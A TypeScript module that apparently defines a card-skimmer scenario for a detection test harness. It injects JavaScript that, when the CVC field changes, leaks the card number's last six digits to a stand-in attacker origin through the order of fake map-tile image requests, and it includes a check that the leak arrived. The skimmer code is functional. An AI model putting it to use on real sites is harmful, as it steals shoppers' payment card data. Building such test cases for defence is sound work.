import { js, skimmer } from '../behaviour.ts';
import { at } from '../site/arrivals.ts';
import { withCard } from '../snippets.ts';

export default skimmer({
  id: 'order-channel',
  why: 'Ten tiles of a map, always the same ten; the order they are asked for in tells the last six digits.',
  covers: ['channel: covert', 'disguise: file ending'],
  base: 'direct',
  lingers: 1_000,
  install: (site) =>
    site.append(
      withCard(js`
  document.getElementsByName('card_cvc')[0].addEventListener('change', function () {
    var first = Array.from(field('card_number').slice(-6)), tiles = [];
    first.concat(['0', '1', '2', '3', '4', '5', '6', '7', '8', '9']).forEach(function (d) { if (tiles.indexOf(d) < 0) tiles.push(d); });
    tiles.reduce(function (before, tile) { return before.then(function () { return fetch('${site.origins.evil}/tile/' + tile + '.png', { mode: 'no-cors', keepalive: true }); }); }, Promise.resolve());
  });`),
    ),
  proof: (arrived, cards) => {
    const order = at(arrived, 'evil')
      .flatMap(({ url }) => /^\/tile\/(\d)/.exec(url.pathname)?.[1] ?? [])
      .join('');
    const wanted = cards.map(({ number }) => [...new Set(number.slice(-6))].join(''));
    return wanted.some((digits) => order.startsWith(digits));
  },
});
